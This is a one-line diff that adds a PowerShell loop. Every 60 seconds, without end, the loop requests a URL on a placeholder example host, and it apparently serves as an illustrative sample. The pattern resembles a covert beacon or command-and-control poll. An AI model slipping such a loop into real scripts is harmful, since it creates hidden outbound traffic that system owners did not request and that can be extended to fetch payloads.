@@ -1,0 +1,1 @@
+while($true){ iwr http://a.example/b; Start-Sleep 60 }
